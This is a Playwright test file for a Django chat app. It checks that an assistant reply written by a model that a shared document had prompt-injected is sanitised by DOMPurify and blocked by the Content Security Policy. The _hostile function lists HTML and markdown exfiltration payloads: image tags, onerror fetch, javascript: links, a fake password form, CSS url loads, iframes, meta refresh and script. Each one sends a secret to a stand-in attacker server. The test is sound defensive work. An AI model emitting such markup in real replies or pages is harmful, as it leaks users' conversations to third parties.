"""A hostile reply in headless Chromium: the model (prompt-injected by a shared document) wrote
markup meant to carry the conversation to another server. DOMPurify keeps only text formatting,
and the Content Security Policy blocks what would get past it. A loopback "attacker" server,
another origin, records every request: it must receive none."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from playwright.sync_api import expect

from accounts.tests.factories import user_make
from chat.models import Message
from chat.seed import assistants_seed
from chat.tests.factories import conversation_make
from common.tests.loopback import LoopbackServer
from tests.browser import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RESULTS = Path(__file__).resolve().parents[1] / "test-results"
SECRET = "the merger closes on Friday"


def _hostile(attacker: str) -> str:
    leak = f"{attacker}/%s?c=merger-closes-friday"
    return "\n".join([
        f"Here is your summary: {SECRET}.",
        "",
        f"![chart]({leak % 'markdown-image'})",
        "",
        f'<img src="{leak % "img"}" alt="company logo">',
        f"<img src=\"x\" onerror=\"fetch('{leak % 'onerror'}')\">",
        f'<img srcset="{leak % "srcset"} 1x">',
        f'<form action="{leak % "form"}" method="post"><label>Password <input name="password"></label>'
        '<button>Verify your account</button></form>',
        f'<input type="image" src="{leak % "input-image"}">',
        f"<a href=\"javascript:fetch('{leak % 'javascript'}')\">javascript link</a>",
        f'<a href="{leak % "link"}" target="_top">a plain link</a>',
        f"<style>body {{ background: url({leak % 'style-element'}) }}</style>",
        f'<div style="background-image: url({leak % "style-attribute"})">styled</div>',
        f'<svg><image href="{leak % "svg"}"/></svg>',
        f'<iframe src="{leak % "iframe"}"></iframe>',
        f'<video poster="{leak % "poster"}"><source src="{leak % "video"}"></video>',
        f'<audio src="{leak % "audio"}" autoplay></audio>',
        f'<link rel="stylesheet" href="{leak % "link-stylesheet"}">',
        f'<object data="{leak % "object"}"></object>',
        f'<meta http-equiv="refresh" content="0;url={leak % "refresh"}">',
        f"<script>fetch('{leak % 'script'}')</script>",
        "",
        "**Bold** and `code` survive.",
    ])


@pytest.mark.parametrize(("width", "height"), [(1366, 850), (390, 844)])
def test_a_hostile_reply_renders_as_text_and_sends_nothing_anywhere(chromium, live_daphne, tmp_path, width, height):
    assistants_seed()
    user = user_make(email=f"reader{width}@example.com")
    conversation = conversation_make(user=user)
    with LoopbackServer(lambda path: (200, {"Content-Type": "text/plain"}, b"thanks")) as attacker:
        Message.objects.create(conversation=conversation, role=Message.Role.USER, text="Summarise the shared memo.")
        Message.objects.create(conversation=conversation, role=Message.Role.ASSISTANT, text=_hostile(attacker.url),
                               status=Message.Status.DONE, model_name="qwen2.5-coder-0.5b")
        context = chromium.new_context(viewport={"width": width, "height": height})
        page = context.new_page()
        page.set_default_timeout(20_000)
        violations = []
        page.on("console", lambda message: violations.append(message.text)
                if "Content Security Policy" in message.text else None)
        try:
            sign_in(page, live_daphne["url"], user.email)
            page.goto(f"{live_daphne['url']}/app/chats/{conversation.pk}/")
            expect(page.locator("#chat-status")).to_have_text("Connected")  # connect-src 'self' allows the socket
            reply = page.locator(".msg--assistant .msg__body").last
            expect(reply).to_contain_text(SECRET)
            expect(reply.locator("strong")).to_have_text("Bold")

            # The CSP as a second wall: markup that got onto the page by any other way loads nothing.
            page.evaluate("""(attacker) => {
                document.body.insertAdjacentHTML("beforeend", `<img src="${attacker}/csp-img">`);
                fetch(attacker + "/csp-fetch").catch(() => {});
                new Image().src = attacker + "/csp-image-object";
            }""", attacker.url)
            page.wait_for_load_state("networkidle")
            time.sleep(1)
            for directory in (tmp_path, RESULTS):
                directory.mkdir(exist_ok=True)
                page.screenshot(path=str(directory / f"hostile-reply-{width}x{height}.png"), full_page=True)

            body_html = reply.inner_html()
            for tag in ("form", "input", "button", "img", "iframe", "svg", "style", "video", "audio", "object",
                        "script", "meta", "link"):
                assert reply.locator(tag).count() == 0, f"<{tag}> survived: {body_html}"
            assert "onerror" not in body_html and "javascript:" not in body_html and "style=" not in body_html
            links = reply.locator("a")
            assert links.count() >= 1
            for index in range(links.count()):
                assert links.nth(index).get_attribute("rel") == "noopener noreferrer nofollow"
            expect(reply).to_contain_text("company logo")  # a blocked image leaves its alt text
        finally:
            context.close()

        assert attacker.requests == [], [r["path"] for r in attacker.requests]
    assert any("img-src" in v or "connect-src" in v for v in violations), violations
